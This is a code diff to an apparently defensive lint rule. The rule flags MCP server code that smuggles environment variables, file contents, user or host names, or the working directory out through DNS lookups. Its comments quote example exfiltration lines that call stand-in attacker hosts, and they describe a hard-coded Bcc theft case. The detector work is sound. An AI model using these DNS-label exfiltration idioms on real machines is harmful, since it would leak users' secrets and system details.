@@ -48,7 +48,8 @@ export default defineRule({
         "public IP address, whose owner no name vouches for (a key file or a token posted to a bare address is how stealers " +
         "report home); and a hard-coded Bcc on outgoing mail, the postmark-mcp 1.0.16 case, where one added line " +
         "copied every message the send tool sent to the attacker. High: file contents read from a fixed path sent to a host " +
-        "the manifest does not declare (a key file posted home), an environment variable or file contents put as labels in " +
+        "the manifest does not declare (a key file posted home), an environment variable, file contents, the user or host name or " +
+        "the working directory (what dependency-confusion probes report home) put as labels in " +
         "front of a domain in a name lookup (`dns.lookup(`${token}.t.attacker.example`)`, Python `socket.gethostbyname`, " +
         "`dns.resolver.resolve`: the query carries the data out past most firewalls), and a hard-coded Cc. Medium: file contents sent where tool " +
         "input shapes the request, an upload feature the model can be steered to misuse. Low: the machine's user or host name " +
@@ -147,7 +148,13 @@ function judgeFlow(call: CallSite, sink: Sink, declared: DeclaredHosts): { messa
   // domain it resolves. A name that is a variable (`lookup(process.env.DB_HOST ?? 'localhost')`) is configuration.
   if (sink.dns) {
     const built = (positions: number[]) => positions.some((position) => (call.args[position]?.parts ?? []).some((part) => DOMAIN_SUFFIX.test(part)));
-    const secrets = [...(wholeEnv.length === 0 && built(carrying(SOURCES.env)) ? ['an environment variable'] : []), ...(built(file) ? ['file contents'] : [])];
+    // What a dependency-confusion probe reports home: who and where it runs (`f"{os.getcwd()}.collector.example"`).
+    const secrets = [
+      ...(wholeEnv.length === 0 && built(carrying(SOURCES.env)) ? ['an environment variable'] : []),
+      ...(built(file) ? ['file contents'] : []),
+      ...(built(hostInfo) ? ["the machine's user or host name"] : []),
+      ...(built(carrying(SOURCES.cwd)) ? ['the working directory'] : []),
+    ];
     if (secrets.length > 0) return { messageId: 'inDnsName', severity: 'high', data: { data: joinAnd(secrets) } };
   }
   const isDeclared = sink.host !== null && declared.covers(sink.host);
